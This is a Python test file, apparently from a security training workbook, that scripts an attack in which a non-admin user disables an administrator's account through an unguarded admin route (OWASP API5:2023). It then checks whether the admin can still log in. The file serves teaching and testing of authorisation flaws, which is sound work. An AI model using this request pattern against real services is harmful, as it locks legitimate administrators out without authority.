"""Mallory disables the admin's account: `PUT /users/{Olga's id}/disabled`, signed in as herself.

It works where the route was written for admins, and asks nobody whether they are one.
"""

from workbook.attacking import Api, attack, reach


@attack(
    "Lock the admin out",
    route="PUT /users/{id}/disabled",
    closes=9,
    see="OWASP API5:2023",
    catches="AZ-10",
)
def lock_out_the_admin(api: Api) -> str | None:
    """Make a second admin first, so that Olga is not the last."""
    alice, mallory, olga = api.alice, api.mallory, api.olga
    path = f"/users/{olga_id(api)}/disabled"
    api.stored.change("INSERT INTO user_roles (user_id, role) VALUES (?, ?)", alice.id, "admin")
    reach(api.put(path, token=mallory.token, json={"disabled": True}, caller=mallory.username))
    seen = api.post("/login", json=olga.credentials, caller=olga.username)
    return "Olga's account: she cannot log in any more" if seen.status != 200 else None


def olga_id(api: Api) -> str:
    """Return the id of Olga, who has one from the start."""
    body = api.get("/users/me", token=api.olga.token, caller="olga").json
    return str(body.get("id")) if isinstance(body, dict) else ""
